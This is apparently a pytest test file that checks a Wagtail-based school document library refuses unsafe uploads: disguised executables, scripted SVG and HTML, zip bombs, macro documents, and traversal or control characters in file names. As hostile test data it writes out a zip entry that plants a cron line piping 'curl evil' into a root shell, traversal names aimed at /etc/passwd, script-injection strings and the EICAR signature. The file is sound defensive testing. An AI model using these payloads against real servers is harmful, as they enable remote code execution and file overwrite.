"""Unsafe uploads are refused by Wagtail's own admin views, with a clear message and nothing left behind."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from wagtail.documents.forms import get_document_form
from wagtail.models import UploadedFile

from cms.accounts.permissions import city_collection
from cms.library.forms import LibraryDocumentForm
from cms.library.models import LibraryDocument
from cms.library.upload_safety import check_upload

from . import samples
from .conftest import stored_files

pytestmark = pytest.mark.django_db


def refuse_scanner(uploaded_file):
    """ECAB_UPLOAD_SCANNER for the tests: an antivirus that finds the EICAR test signature."""
    if b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" in uploaded_file.read():
        raise ValidationError("Знайдено вірус: EICAR-Test-File", code="virus")


def broken_scanner(uploaded_file):
    raise ConnectionRefusedError("clamd is not running")


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture
def refused(upload, media):
    """Upload through the admin and check the file is refused with `code`, the message shown, nothing stored."""

    def check(name: str, data: bytes, code: str, **kwargs) -> str:
        documents_before = set(LibraryDocument.objects.values_list("pk", flat=True))
        files_before = stored_files(media)
        uploads_before = UploadedFile.objects.count()

        response = upload(name, data, **kwargs)

        assert response.status_code == 200, "the form is shown again, not a redirect to a saved document"
        errors = response.context["form"].errors.as_data()["file"]
        assert code in [error.code for error in errors], [(error.code, error.messages) for error in errors]
        with translation.override("uk"):
            message = " ".join(errors[0].messages)
        assert len(message) > 15
        assert escape(message) in response.content.decode(), "the editor sees the reason"
        assert set(LibraryDocument.objects.values_list("pk", flat=True)) == documents_before
        assert UploadedFile.objects.count() == uploads_before
        assert stored_files(media) == files_before, "no file was left in MEDIA_ROOT"
        return message

    return check


# Refused uploads -----------------------------------------------------------------------------------------------


def test_renamed_executable_is_refused(refused):
    refused("zvit.pdf", samples.MZ_EXECUTABLE + b"\x00" * 512, "content_mismatch")


def test_disallowed_extension_is_refused(refused):
    message = refused("setup.exe", samples.MZ_EXECUTABLE, "extension_not_allowed")
    assert "exe" in message


def test_svg_is_refused_under_any_name(refused):
    refused("logo.svg", samples.SVG_WITH_SCRIPT, "extension_not_allowed")
    refused("logo.png", samples.SVG_WITH_SCRIPT, "content_mismatch")
    refused("logo.txt", samples.SVG_WITH_SCRIPT, "markup")


def test_html_with_script_is_refused(refused):
    refused("page.html", samples.HTML_WITH_SCRIPT, "extension_not_allowed")
    refused("notes.txt", samples.HTML_WITH_SCRIPT, "markup")
    refused("table.csv", b"\xef\xbb\xbf  \n<script>alert(1)</script>;1;2\n", "markup")


def test_docx_zip_bomb_is_refused(refused):
    bomb = samples.docx_bomb(megabytes=200)
    assert len(bomb) < 1024 * 1024, "the bomb is small on the wire"
    refused("bomb.docx", bomb, "zip_bomb")


def test_docx_unpacking_beyond_the_limit_is_refused(refused, settings):
    settings.ECAB_ZIP_MAX_UNCOMPRESSED_BYTES = 20_000
    refused("nakaz.docx", samples.make_docx(), "zip_too_large")


def test_too_many_zip_entries_are_refused(refused, settings):
    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    members.update({f"word/media/image{n}.png": b"" for n in range(settings.ECAB_ZIP_MAX_FILES)})
    refused("many.docx", samples.make_zip(members, zipfile.ZIP_STORED), "zip_too_many_files")


def test_oversize_file_is_refused(refused, settings):
    settings.ECAB_UPLOAD_MAX_BYTES = 1000
    message = refused("big.txt", "Рядок тексту\n".encode() * 100, "too_large")
    assert "1000" in message.replace("\xa0", "") or "1,0" in message or "1000" in message


def test_drive_letter_in_name_is_refused(refused):
    # Django strips "../" and "..\\" from upload names itself (see the next test); "C:" is left for us.
    refused("C:passwd.pdf", samples.make_pdf(), "path_in_name")


def test_control_character_in_name_is_refused_before_saving(media):
    # Django's multipart parser drops non-printable characters; a right-to-left override is "printable"
    # ("Cf") and turns "zvit\u202efdp.exe" into what looks like "zvitexe.pdf".
    with pytest.raises(ValidationError) as excinfo:
        check_upload(SimpleUploadedFile("zvit\u202efdp.exe.pdf", samples.make_pdf()))
    assert excinfo.value.code == "control_characters"


def test_double_extension_is_refused(refused):
    refused("nakaz.exe.pdf", samples.make_pdf(), "double_extension")
    refused("nakaz.html.txt", "Звичайний текст".encode(), "double_extension")
    refused("nakaz.pdf.exe", samples.MZ_EXECUTABLE, "extension_not_allowed")


def test_png_named_pdf_is_refused(refused):
    refused("nakaz.pdf", samples.PNG_BYTES, "content_mismatch")


def test_pdf_named_docx_is_refused(refused):
    refused("nakaz.docx", samples.make_pdf(), "content_mismatch")


def test_xlsx_named_docx_is_refused(refused):
    refused("nakaz.docx", samples.make_xlsx(), "content_mismatch")


def test_empty_file_is_refused(refused):
    # Django's FileField refuses it before our check (code "empty" too); either way the editor is told.
    refused("empty.pdf", b"", "empty")


def test_corrupt_docx_is_refused(refused):
    refused("broken.docx", b"PK\x03\x04" + bytes(range(256)) * 20, "damaged")


def test_zip_with_traversal_entry_is_refused(refused):
    members = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "../../../../etc/cron.d/evil": b"* * * * * root sh -c 'curl evil | sh'\n",
    }
    message = refused("evil.docx", samples.make_zip(members), "zip_unsafe_member")
    assert "etc/cron.d/evil" in message


def test_zip_with_absolute_entry_is_refused(refused):
    members = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "/var/spool/x.sh": b"echo"}
    refused("evil.xlsx", samples.make_zip(members), "zip_unsafe_member")


def test_macro_document_renamed_to_docx_is_refused(refused):
    members = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
    }
    refused("macro.docx", samples.make_zip(members), "macros")


def test_odt_with_wrong_mimetype_is_refused(refused):
    members = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    refused("lyst.odt", samples.make_zip(members, zipfile.ZIP_STORED), "content_mismatch")


def test_binary_named_txt_is_refused(refused):
    refused("notes.txt", samples.MZ_EXECUTABLE, "content_mismatch")


def test_scanner_hook_refuses(refused, settings):
    settings.ECAB_UPLOAD_SCANNER = "tests.library.test_upload_safety.refuse_scanner"
    message = refused("eicar.txt", EICAR, "virus")
    assert "EICAR" in message


def test_unavailable_scanner_refuses(refused, settings):
    settings.ECAB_UPLOAD_SCANNER = "tests.library.test_upload_safety.broken_scanner"
    refused("nakaz.pdf", samples.make_pdf(), "scanner_unavailable")


def test_multiple_upload_view_refuses_too(editor, media):
    files_before = stored_files(media)
    documents_before = LibraryDocument.objects.count()
    response = editor.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile("zvit.pdf", samples.MZ_EXECUTABLE), "collection": city_collection().pk},
    )
    data = response.json()
    assert data["success"] is False
    assert data["error_message"]
    assert LibraryDocument.objects.count() == documents_before
    assert UploadedFile.objects.count() == 0
    assert stored_files(media) == files_before


def test_chooser_upload_refuses_too(editor, media):
    files_before = stored_files(media)
    documents_before = LibraryDocument.objects.count()
    prefix = "document-chooser-upload-"
    response = editor.post(
        reverse("wagtaildocs_chooser:create"),
        {
            f"{prefix}title": "Наказ",
            f"{prefix}file": SimpleUploadedFile("nakaz.pdf", samples.PNG_BYTES),
            f"{prefix}collection": city_collection().pk,
            f"{prefix}kind": "order",
            f"{prefix}language": "uk",
            f"{prefix}status": "in_force",
        },
    )
    assert response.json()["step"] == "reshow_creation_form"
    assert LibraryDocument.objects.count() == documents_before
    assert stored_files(media) == files_before


def test_every_admin_document_form_uses_the_checks():
    assert issubclass(get_document_form(LibraryDocument), LibraryDocumentForm)


# Names given to check_upload directly (importers, the API): Django's parser never lets these reach a view --------


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("../../etc/passwd.pdf", "path_in_name"),
        ("..\\..\\windows\\system.ini.pdf", "path_in_name"),
        ("/etc/passwd.pdf", "path_in_name"),
        ("C:\\Users\\x.pdf", "path_in_name"),
        ("..", "path_in_name"),
        ("nakaz\x00.exe.pdf", "control_characters"),
        ("nakaz\n.pdf", "control_characters"),
        ("", "no_name"),
        ("nakaz", "extension_not_allowed"),
        ("nakaz.PDF.", "extension_not_allowed"),
        ("x.JS.pdf", "double_extension"),
        ("x.svg .pdf", "double_extension"),
    ],
)
def test_unsafe_names_are_refused(name, code, settings):
    upload = File(io.BytesIO(samples.make_pdf()), name=name)
    with pytest.raises(ValidationError) as excinfo:
        check_upload(upload)
    assert excinfo.value.code == code


def test_ordinary_ukrainian_names_with_dots_pass():
    upload = File(io.BytesIO(samples.make_pdf()), name="Наказ № 15 від 01.09.2026 р.pdf")
    assert check_upload(upload) == "pdf"
    assert upload.tell() == 0, "the file is rewound for whoever saves it"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("nakaz.pdf", samples.make_pdf(), "pdf"),
        ("nakaz.docx", samples.make_docx(), "docx"),
        ("merezha.xlsx", samples.make_xlsx(), "xlsx"),
        ("photo.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "jpeg"),
        ("logo.png", samples.PNG_BYTES, "png"),
        ("spysok.csv", "Прізвище;Клас\nШевченко;5-А\n".encode("cp1251"), "csv"),
        ("notes.txt", "Нотатки: a < b, 3 > 2".encode(), "txt"),
        (
            "lyst.odt",
            samples.make_zip(
                {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, zipfile.ZIP_STORED
            ),
            "odt",
        ),
    ],
)
def test_check_upload_detects_the_kind(name, data, kind):
    assert check_upload(SimpleUploadedFile(name, data)) == kind


# Accepted uploads --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [("nakaz.docx", samples.make_docx()), ("nakaz.pdf", samples.make_pdf()), ("merezha.xlsx", samples.make_xlsx())],
)
def test_real_documents_are_saved(upload, media, name, data):
    response = upload(name, data, title="Наказ про зарахування учнів")
    assert response.status_code == 302, response.context and response.context["form"].errors
    document = LibraryDocument.objects.get(title="Наказ про зарахування учнів")
    assert document.collection == city_collection()
    path = media / document.file.name
    assert path.is_file() and path.read_bytes() == data
    assert document.file_size == len(data)


def test_traversal_in_an_upload_name_is_stripped_and_the_file_stays_in_media(editor, media):
    """Django drops the path from a multipart file name; the file lands in MEDIA_ROOT/documents/ only."""
    boundary = "ecabBoundary7MA4YWxkTrZu0gW"
    fields = {
        "title": "Traversal",
        "collection": str(city_collection().pk),
        "kind": "order",
        "language": "uk",
        "status": "in_force",
    }
    body = b""
    for key, value in fields.items():
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="../../../etc/passwd.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()
    body += samples.make_pdf() + f"\r\n--{boundary}--\r\n".encode()
    response = editor.post(
        reverse("wagtaildocs:add"), data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert response.status_code == 302
    document = LibraryDocument.objects.get(title="Traversal")
    assert document.file.name == "documents/passwd.pdf"
    stored = (media / document.file.name).resolve()
    assert stored.is_file() and media.resolve() in stored.parents
    assert not (media.parent / "etc").exists()


def test_multiple_upload_view_accepts_a_real_document(editor, media, django_capture_on_commit_callbacks):
    """The checked file waits as an UploadedFile until the editor fills in the document's details."""
    response = editor.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile("nakaz.docx", samples.make_docx()), "collection": city_collection().pk},
    )
    data = response.json()
    assert data["success"] is True
    upload_id = data["uploaded_file_id"]
    prefix = f"uploaded-document-{upload_id}-"
    with django_capture_on_commit_callbacks(execute=True):
        response = editor.post(
            reverse("wagtaildocs:create_multiple_from_uploaded_document", args=[upload_id]),
            {
                f"{prefix}title": "Наказ із пакета",
                f"{prefix}collection": city_collection().pk,
                f"{prefix}kind": "order",
                f"{prefix}language": "uk",
                f"{prefix}status": "in_force",
            },
        )
    data = response.json()
    assert data["success"] is True, data
    document = LibraryDocument.objects.get(pk=data["doc_id"])
    assert (media / document.file.name).is_file()
    assert not UploadedFile.objects.exists()
    assert "Шевченко Тарас" in document.extracted_text
